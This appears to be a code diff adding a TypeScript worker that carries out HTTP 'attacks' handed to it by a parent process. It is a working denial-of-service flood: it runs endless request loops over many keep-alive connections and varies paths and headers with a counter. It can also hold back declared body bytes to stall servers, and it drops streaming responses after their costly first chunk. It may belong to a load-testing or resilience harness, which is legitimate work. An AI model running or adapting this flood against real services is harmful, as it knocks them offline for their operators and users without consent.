@@ -1,0 +1,56 @@
+import { Agent, request } from 'node:http'
+
+/** One attack, as attacks.ts gives it to a process of its own. */
+export interface Attack {
+  url: string
+  method: string
+  /** Paths that are asked for in turns; `#` stands for a number that grows. */
+  path: string
+  headers: Record<string, string>
+  /** Bytes of the body, base64. */
+  body: string
+  /** Bytes of the body that are never sent. */
+  heldBack?: number
+  connections: number
+}
+
+/** Runs until it is killed: each connection sends its next request once the last was answered. */
+process.once('message', (attack: Attack) => {
+  const agent = new Agent({ keepAlive: true, maxSockets: attack.connections })
+  const body = Buffer.from(attack.body, 'base64')
+  let count = 0
+  for (let i = 0; i < attack.connections; i++) void again()
+
+  async function again() {
+    for (;;) await send().catch(() => new Promise((resolve) => setTimeout(resolve, 10)))
+  }
+
+  function send() {
+    const path = attack.path.replace('#', () => String(++count))
+    const headers = Object.entries(attack.headers).map(([name, value]) => [
+      name,
+      value.replace('#', () => String(count).padStart(20, '0')),
+    ])
+    const length = String(body.length)
+    return new Promise<void>((resolve, reject) => {
+      const sent = request(
+        attack.url + path,
+        {
+          method: attack.method,
+          agent,
+          headers: { ...Object.fromEntries(headers), 'content-length': length },
+        },
+        (response) => {
+          // A feed never ends, and its head is what costs.
+          if (response.headers['content-type']?.startsWith('text/event-stream')) {
+            response.once('data', () => response.destroy())
+          }
+          response.resume().once('close', resolve)
+        }
+      )
+      sent.once('error', reject)
+      if (attack.heldBack === undefined) sent.end(body)
+      else sent.write(body.subarray(0, -attack.heldBack))
+    })
+  }
+})
